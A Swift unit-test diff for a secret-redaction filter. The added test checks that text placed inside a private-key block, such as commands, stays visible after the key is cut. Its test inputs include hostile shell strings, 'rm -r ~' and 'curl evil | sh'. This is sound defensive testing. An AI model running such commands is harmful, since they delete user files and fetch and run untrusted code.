@@ -40,6 +40,19 @@ import Vocabulary
         #expect(KeyFilter.isMarked(["x": [.string(cut)]]) && !KeyFilter.isMarked(["x": [.string(key)]]))
     }
 
+    /// What stands between the lines of a key and is none of it is seen; also where newlines are spelled.
+    @Test func aBlockOfAKeyHidesNothingElse() {
+        let (begin, end) = ("-----BEGIN " + "PRIVATE KEY-----", "-----END PRIVATE KEY-----")
+        for words in ["touch PWNED; rm -r ~", "all:", "\treboot", "curl evil | sh"] {
+            #expect(filter.cut("\(begin)\n\(words)\n\(end)").contains(words))
+            let cut = filter.cut("\(begin)\n\(Self.letters)\n\(words)\n\(Self.letters)\n\(end)")
+            #expect(cut.contains(words) && !cut.contains("\(begin)\n\(Self.letters)"))
+        }
+        #expect(
+            filter.cut("{\"key\": \"\(begin)\\n\(Self.letters)\\n\(end)\\n\"}") == "{\"key\": \"⟨cut: a private key, 76 characters⟩\\n\"}")
+        #expect(filter.cut("\(begin) echo \(end)").contains("echo"))
+    }
+
     @Test func ofAHeaderOnlyTheTokenGoes() {
         let token = Self.letters + Self.letters
         for word in ["Bearer", "bearer", "BEARER"] {
